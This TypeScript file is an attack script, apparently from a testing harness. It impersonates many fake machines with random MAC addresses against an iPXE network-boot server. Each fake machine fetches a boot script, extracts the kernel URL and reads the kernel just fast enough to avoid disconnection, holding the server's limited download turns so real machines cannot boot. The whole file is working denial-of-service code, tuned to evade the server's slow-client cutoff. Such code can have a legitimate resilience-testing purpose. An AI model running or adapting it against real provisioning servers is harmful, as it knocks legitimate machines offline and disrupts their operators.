/**
 * Machines that are not there ask for their scripts and read their kernels slowly, so that they hold the turns of others:
 * `boot-queue.js TARGET NUMBER`.
 */
import { randomBytes } from 'node:crypto'
import { get } from 'node:http'
import { count, nextAddress, pause, target, words } from '../client/attacker.js'
import { ports } from '../target.js'

const [machines = '8'] = words
/** More than the 512 KiB in 30 s below which the server disconnects a client. */
const bytesPerS = 20_480
const againMs = 200

/** Reads the whole of a script. */
function script(mac: string, localAddress: string): Promise<string> {
  return new Promise((resolve) => {
    const path = `/v1/ipxe/script/${mac}?arch=x86_64&tries=0`
    const options = { host: target.server, port: ports.http, path, localAddress, agent: false }
    const request = get(options, (response) => {
      let text = ''
      response.on('data', (part: Buffer) => (text += part.toString()))
      response.on('error', () => resolve(''))
      response.on('end', () => resolve(text))
    })
    request.on('error', () => resolve(''))
  })
}

/** Takes a turn and holds it for as long as the server lets it. */
function readSlowly(url: string, localAddress: string): Promise<void> {
  return new Promise((resolve) => {
    const request = get(url, { localAddress, agent: false }, (response) => {
      count(`turn_${response.statusCode}`)
      response.on('readable', () => {})
      const timer = setInterval(() => count('read_bytes', response.read(bytesPerS)?.length ?? 0), 1000)
      response.on('error', () => {})
      response.on('close', () => {
        clearInterval(timer)
        resolve()
      })
    })
    request.on('error', () => resolve())
  })
}

for (let machine = 0; machine < Number(machines); machine += 1) {
  const address = nextAddress()
  void (async () => {
    for (;;) {
      const mac = `52-54-00-${randomBytes(3)
        .toString('hex')
        .replace(/(..)(?=.)/g, '$1-')}`
      const kernel = /http:\S+\/v1\/ipxe\/file\/\S+/.exec(await script(mac, address))?.[0]
      if (kernel !== undefined) await readSlowly(kernel, address)
      else await pause(againMs)
    }
  })()
}
